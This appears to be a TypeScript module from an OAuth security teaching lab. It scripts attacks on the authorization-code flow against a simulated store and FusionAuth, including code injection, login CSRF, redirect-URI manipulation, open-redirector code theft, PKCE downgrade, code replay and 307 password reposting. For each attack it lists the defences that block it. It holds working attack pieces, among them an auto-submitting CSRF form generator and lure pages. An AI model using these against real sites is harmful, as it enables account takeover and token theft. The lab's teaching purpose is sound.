import type { Shape } from '../catalogue/workflow.ts'
import type { LabEvent } from '../vocabulary.ts'
import type { Attack } from './attack.ts'
import { incidents } from './incidents.ts'
import { cartsOfHacker, outcome, pagesOfHacker, passwordsTold, tokensOfHacker } from './judging.ts'
import {
  begin,
  codeOfVictim,
  collected,
  isCallback,
  logIn,
  parameter,
  publicly,
  redeem,
  victimLogsIn,
} from './moves.ts'
import { known, notYetIn } from './preludes.ts'
import type { AttackScene } from './scene.ts'

/** Attacks on the code and on the redirects that carry it (RFC 9700 §4). */

/** A server redeems the code: that of a web application, or that of a single-page app. */
const isServerSide = ({ client, login }: Shape): boolean =>
  login === 'authorization-code' && client !== 'mobile'

const arrive: LabEvent = { type: 'learner.open', app: 'Store' }

const codeLeak: Attack = {
  id: 'code-leak',
  row: 'B1',
  title: 'A leaked code is redeemed',
  precondition: 'Somebody on the way reads the address of the callback and cuts the line.',
  incident: null,
  tries: isServerSide,
  weak: () => ({ pkce: false, 'client-authentication': false }),
  prelude: () => [arrive],
  stops: () => ['pkce', 'client-authentication'],
  helpsNot: () => ['state', 'nonce', 'iss', 'http-only', 'secure', ['same-site', 'strict']],
  play: async (scene) => {
    const code = await codeOfVictim(scene)
    if (code !== null) await redeem(scene, code)
  },
  won: (trace) => outcome('code-leak', tokensOfHacker(trace)),
}

const codeInjection: Attack = {
  id: 'code-injection',
  row: 'B2',
  title: 'A stolen code is put into another login',
  precondition: 'The Hacker has a code of the victim’s that nobody has used yet.',
  incident: null,
  tries: isServerSide,
  weak: () => ({ pkce: false, nonce: false }),
  prelude: known,
  stops: () => ['pkce', 'nonce'],
  helpsNot: () => ['state', 'client-authentication', 'iss', 'secure', 'http-only'],
  play: async (scene) => {
    const { hacker, places } = scene
    const code = await codeOfVictim(scene)
    const page = code === null ? null : await begin(scene)
    if (code === null || page === null) return
    const callback = new URL(parameter(page.url, 'redirect_uri') ?? places.Store.origin)
    const state = parameter(page.url, 'state')
    callback.search = new URLSearchParams({
      code,
      ...(state === null ? {} : { state }),
      iss: places.FusionAuth.origin,
    }).toString()
    scene.note('swaps-code', 'Puts the stolen code in the place of an own one')
    await hacker.visit('Store', callback.href)
    await hacker.visit('Store', `${places.Store.origin}${places.Store.protectedPath}`)
  },
  won: (trace) => outcome('code-injection', cartsOfHacker(trace)),
}

/** The address that would have finished the Hacker's own login; null when there was none. */
const unfinished = async (scene: AttackScene): Promise<string | null> => {
  const request = await scene.cut(isCallback, () => logIn(scene))
  return request?.url ?? null
}

const goesTo = (url: string): { readonly html: string } => ({
  html: `<!doctype html><html lang="en"><title>One moment</title><meta http-equiv="refresh" content="0; url=${url.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"><p>One moment …</p></html>`,
})

const loginCsrf: Attack = {
  id: 'login-csrf',
  row: 'B3',
  title: 'The victim is logged in as the Hacker',
  precondition: 'The victim opens a page of the Hacker’s.',
  incident: incidents.relyingParties,
  tries: (shape) => isServerSide(shape) || isOwnForm(shape),
  weak: (shape) =>
    isServerSide(shape)
      ? { state: false, nonce: false, pkce: false }
      : { 'origin-check': false, 'csrf-token': false },
  prelude: () => [arrive],
  stops: (shape) =>
    isServerSide(shape) ? ['state', 'nonce', 'pkce'] : ['origin-check', 'csrf-token'],
  helpsNot: (shape) =>
    isServerSide(shape)
      ? ['iss', 'exact-redirect-uris', 'client-authentication', 'secure']
      : ['http-only', 'secure', ['same-site', 'strict'], 'new-id-at-login'],
  play: async (scene) => {
    const { places, shape } = scene
    if (shape.login !== 'authorization-code') {
      const { loginId, password } = await scene.account()
      await scene.lure({
        html: sendsItself(`${places.Store.origin}/login`, { loginId, password }),
      })
      return
    }
    const url = await unfinished(scene)
    if (url === null) return
    scene.note('keeps-code', 'Keeps the address that would have finished the own login')
    await scene.lure(goesTo(url))
    await scene.does({ type: 'learner.load', app: 'Store' })
  },
  won: (trace) => outcome('login-csrf', pagesOfHacker(trace)),
}

/** A form of the application's own that a page of another site can send. */
const isOwnForm = ({ client, login }: Shape): boolean =>
  client === 'webapp' && (login === 'native' || login === 'password-grant')

/** A page that sends a form off as soon as it is open. */
export const sendsItself = (action: string, fields: Readonly<Record<string, string>>): string => {
  const inputs = Object.entries(fields)
    .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
    .join('')
  return `<!doctype html><html lang="en"><title>You have won</title><form method="post" action="${action}">${inputs}</form><script>document.forms[0].submit()</script></html>`
}

/** The address of a login whose answer goes elsewhere, begun by nobody but the Hacker's link. */
const linkTo = (
  scene: AttackScene,
  redirectUri: string,
  more: Readonly<Record<string, string>> = {},
): string => {
  const url = new URL('/oauth2/authorize', scene.places.FusionAuth.origin)
  url.search = new URLSearchParams({
    client_id: publicly(scene, 'client_id'),
    redirect_uri: redirectUri,
    response_type: 'code',
    scope: 'openid offline_access',
    ...more,
  }).toString()
  return url.href
}

/** The code that came to the Hacker's own host; null when none did. */
const codeAt = (scene: AttackScene, origin: string): string | null => {
  const request = scene.messages.findLast(
    ({ kind, http }) => kind === 'request' && http?.url.startsWith(origin),
  )
  const code = request === undefined ? null : parameter(request.http?.url ?? '', 'code')
  if (code !== null) scene.note('reads-code', 'Reads the code in the address')
  return code
}

const redirectManipulation: Attack = {
  id: 'redirect-manipulation',
  row: 'B4',
  title: 'The answer is sent to another address',
  precondition:
    'The Hacker has a host below the applications’ domain, and FusionAuth compares loosely.',
  incident: incidents.booking,
  tries: (shape) => isServerSide(shape) && shape.sso,
  weak: () => ({ 'exact-redirect-uris': false, 'client-authentication': false }),
  prelude: known,
  stops: () => ['exact-redirect-uris', 'client-authentication'],
  helpsNot: () => ['state', 'nonce', 'iss', 'pkce', ['same-site', 'strict']],
  play: async (scene) => {
    const { sibling } = scene.places.Hacker
    const redirectUri = `${sibling}/oauth-callback`
    await scene.lure(goesTo(linkTo(scene, redirectUri)))
    const code = codeAt(scene, redirectUri)
    if (code !== null) await redeem(scene, code, { redirect_uri: redirectUri })
  },
  won: (trace) => outcome('redirect-manipulation', tokensOfHacker(trace)),
}

const openRedirector: Attack = {
  id: 'open-redirector',
  row: 'B5',
  title: 'The Store leads on to the Hacker, code and all',
  precondition:
    'The Store has a link that leads anywhere, and FusionAuth takes any address of the Store.',
  incident: incidents.covertRedirect,
  tries: (shape) => isServerSide(shape) && shape.sso,
  weak: () => ({
    'return-to-allow-list': false,
    'exact-redirect-uris': false,
    'client-authentication': false,
  }),
  prelude: known,
  stops: () => ['return-to-allow-list', 'exact-redirect-uris', 'client-authentication'],
  helpsNot: () => ['state', 'nonce', 'iss', 'pkce', ['same-site', 'strict']],
  play: async (scene) => {
    const landing = scene.publish({
      html: '<!doctype html><html lang="en"><title>Thank you</title><script data-program="open-redirector">new Image().src = …</script></html>',
    })
    const link = new URL('/go', scene.places.Store.origin)
    link.searchParams.set('to', landing)
    await scene.lure(goesTo(linkTo(scene, link.href, { response_mode: 'fragment' })))
    const found = new URLSearchParams(collected(scene)?.slice(1) ?? '').get('code')
    if (found === null) return
    scene.note('reads-code', 'Reads the code in the address')
    await redeem(scene, found, { redirect_uri: link.href })
  },
  won: (trace) => outcome('open-redirector', tokensOfHacker(trace)),
}

const pkceDowngrade: Attack = {
  id: 'pkce-downgrade',
  row: 'B7',
  title: 'The verifier is simply left out',
  precondition:
    'The Hacker has a code that was asked for with PKCE, and FusionAuth looks at a verifier only when one comes.',
  incident: incidents.authentik,
  tries: isServerSide,
  weak: () => ({ 'verifier-check': false, 'client-authentication': false }),
  prelude: () => [arrive],
  stops: () => ['verifier-check', 'client-authentication'],
  helpsNot: () => ['pkce', 'state', 'nonce', 'iss', ['same-site', 'strict']],
  play: async (scene) => {
    const code = await codeOfVictim(scene)
    if (code !== null) await redeem(scene, code)
  },
  won: (trace) => outcome('pkce-downgrade', tokensOfHacker(trace)),
}

const codeReplay: Attack = {
  id: 'code-replay',
  row: 'B8',
  title: 'A used code is used again',
  precondition: 'The Hacker reads, in a log or a history, the address of a login that is over.',
  incident: incidents.orcid,
  tries: isServerSide,
  weak: () => ({ 'codes-once': false, pkce: false, 'client-authentication': false }),
  prelude: known,
  stops: () => ['codes-once', 'pkce', 'client-authentication'],
  helpsNot: () => ['state', 'nonce', 'iss', 'secure', 'http-only'],
  play: async (scene) => {
    const used = scene.messages.findLast(
      ({ kind, http }) => kind === 'request' && http !== null && isCallbackUrl(http.url),
    )
    const code = used === undefined ? null : parameter(used.http?.url ?? '', 'code')
    if (code === null) return
    scene.note('reads-code', 'Reads the code in the address')
    await redeem(scene, code)
  },
  won: (trace) => outcome('code-replay', tokensOfHacker(trace)),
}

const isCallbackUrl = (url: string): boolean =>
  isCallback({ method: 'GET', url, headers: [], body: '' })

const redirect307: Attack = {
  id: 'redirect-307',
  row: 'B9',
  title: 'The password is posted on to the application',
  precondition: 'The application is in wrong hands, or writes what it gets into a log.',
  incident: incidents.fett,
  tries: isServerSide,
  weak: () => ({ 'redirect-after-login': 307 }),
  prelude: notYetIn,
  stops: () => [
    ['redirect-after-login', 302],
    ['redirect-after-login', 303],
  ],
  helpsNot: () => ['pkce', 'state', 'nonce', 'iss', ['same-site', 'strict']],
  play: victimLogsIn,
  won: (trace) => outcome('redirect-307', passwordsTold(trace)),
}

export const codes: readonly Attack[] = [
  codeLeak,
  codeInjection,
  loginCsrf,
  redirectManipulation,
  openRedirector,
  pkceDowngrade,
  codeReplay,
  redirect307,
]
